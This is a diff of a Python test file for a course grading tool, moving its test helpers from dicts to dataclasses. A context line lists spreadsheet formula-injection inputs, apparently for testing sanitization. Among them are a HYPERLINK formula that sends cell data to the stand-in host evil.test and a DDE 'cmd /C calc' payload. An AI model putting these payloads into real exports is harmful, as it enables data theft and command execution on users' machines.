@@ -6,6 +6,7 @@ import io
 import re
 import struct
 import zlib
+from dataclasses import replace
 
 import pandas
 import pytest
@@ -13,10 +14,11 @@ from hostile import HOSTILE
 from PIL import Image
 from results import POINTS, SLUG, cell, open_question, png, question, real, result
 
-from course.language import LANGUAGES, words
+from course.language import LANGUAGES, Phrase, words
 from grading import sanitize
 from grading.deliver import page, report
 from grading.deliver.pictures import picture
+from grading.result import QuestionResult
 
 FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://evil.test/"&A1,"x")', "=cmd|'/C calc'!A0",
             "\t=1+1", " =1+1", "\r=1+1", "\n=1+1", "\r\n\t =1+1", "\x00=1+1", "\x0b=1+1", "\xa0=1+1", "\u3000=1+1",
@@ -36,8 +38,8 @@ def rows(folder):
 
 def hostile_result(text):
     """A result in which every text that a submission can influence is this one."""
-    asked = [{"id": "probability", "points": 1, "score": 0, "kind": "raised", "key": None,
-              "said": text, "hint": text, "picture": text}]  # fmt: skip
+    said = Phrase("check.raised", {"error": text})
+    asked = [QuestionResult("probability", 1, 0, "raised", None, said, said, text)]
     cells = [cell(text, kind, "probability", text, [text, png()]) for kind in ("code", "markdown", "raw")]
     return result(text, "en", asked, cells, id="hostile")
 
@@ -48,7 +50,7 @@ def hostile_result(text):
 @pytest.mark.parametrize("lang", LANGUAGES)
 def test_a_row_for_each_student_and_a_column_for_each_exercise(tmp_path, lang):
     results = [real("张三", "zh", probability="unclipped"), real('李, "四"', "en", draw_spikes="at_most")]
-    results[1]["id"] = "b"
+    results[1] = replace(results[1], id="b", student="b")
     table = rows(written(tmp_path, results, lang))
     assert table[0][6:11] == [f"{SLUG}/{name}" for name in POINTS[SLUG]]
     assert table[1:] == [
@@ -59,7 +61,7 @@ def test_a_row_for_each_student_and_a_column_for_each_exercise(tmp_path, lang):
 
 def test_the_table_is_what_excel_and_pandas_read(tmp_path):
     marked = real("张三", "zh")
-    marked["questions"][-1]["score"] = 2.5
+    marked = replace(marked, questions=(*marked.questions[:-1], open_question(2.5)))
     path = written(tmp_path, [marked]) / "grades.csv"
     content = path.read_bytes()
     assert content.startswith(b"\xef\xbb\xbfid,")
@@ -71,13 +73,12 @@ def test_the_table_is_what_excel_and_pandas_read(tmp_path):
 
 
 def test_several_assignments_stand_side_by_side(tmp_path):
-    other = {"id": "slow", "points": 2, "score": 2, "kind": "right", "key": None, "said": "", "hint": "",
-             "picture": None}  # fmt: skip
+    other = QuestionResult("slow", 2, 2, "right")
     points = POINTS | {"03-latency-exercises": {"slow": 2}}
     one, two = real("ann", "en"), result("ann", "en", [other], assignment="03-latency-exercises", id="ann-03")
-    again, only = real("ann", "en", probability="unclipped") | {"id": "ann-again"}, two | {"id": "bob", "name": "bob"}
-    for shared in (one, two, again):
-        shared["student"] = "ann"
+    two = replace(two, student="ann")
+    again = replace(real("ann", "en", probability="unclipped"), id="ann-again")
+    only = replace(two, id="bob", name="bob", student="bob")
     table = rows(written(tmp_path, [one, two, again, only], points=points))
     assert [(row[0], row[4], row[5], row[6], row[11]) for row in table[1:]] == [
         ("ann", "10", "13", "1", "2"),
@@ -220,7 +221,7 @@ def test_a_submission_that_was_not_graded_hears_why_and_what_to_do(tmp_path):
 
 
 def test_a_mark_without_a_cell_is_still_shown(tmp_path):
-    lost = question("probability", lambda *_: None, "en") | {"kind": "missing"}
+    lost = replace(question("probability", lambda *_: None, "en"), kind="missing")
     report.write([result("a", "en", [lost, open_question()], [cell("1 + 1")])], tmp_path, "en", POINTS)
     content = (tmp_path / "feedback/a.html").read_text("utf-8")
     assert content.index("<pre>") < content.index('<section class="mark wrong" id="exercise-1">')
@@ -276,7 +277,8 @@ def test_the_class_page_counts_misconceptions(tmp_path, opened, lang):
     names = [f"Name{place}" for place in range(6)]
     wrong = [{}, {"probability": "unclipped"}, {"probability": "unclipped"}, {"probability": "inverted"}, {}, {}]
     results = [real(name, "en", **one) for name, one in zip(names, wrong, strict=True)]
-    results[5]["questions"][0] = question("probability", lambda *_: None, "en")
+    empty = question("probability", lambda *_: None, "en")
+    results[5] = replace(results[5], questions=(empty, *results[5].questions[1:]))
     results.append(result("Broken", assignment=None, problem="bad_zip"))
     report.write(results, tmp_path, lang, POINTS)
     tab = opened(tmp_path / "class.html")
@@ -306,8 +308,7 @@ def test_a_sentence_with_a_learners_numbers_is_told_without_them(monkeypatch):
 def test_many_points_share_bars(tmp_path):
     points = {SLUG: {"big": 100}}
     scores = (0, 9, 10, 55.5, 100)
-    asked = [{"id": "big", "points": 100, "score": score, "kind": "wrong", "key": None, "said": "", "hint": "",
-              "picture": None} for score in scores]  # fmt: skip
+    asked = [QuestionResult("big", 100, score, "wrong") for score in scores]
     report.write([result(f"s{n}", "en", [one]) for n, one in enumerate(asked)], tmp_path, "en", points)
     label = re.search('aria-label="([^"]*)"', (tmp_path / "class.html").read_text("utf-8"))[1]
     assert label.endswith("0–9: 2, 10–19: 1, 20–29: 0, 30–39: 0, 40–49: 0, 50–59: 1, 60–69: 0, 70–79: 0, 80–89: 0, "
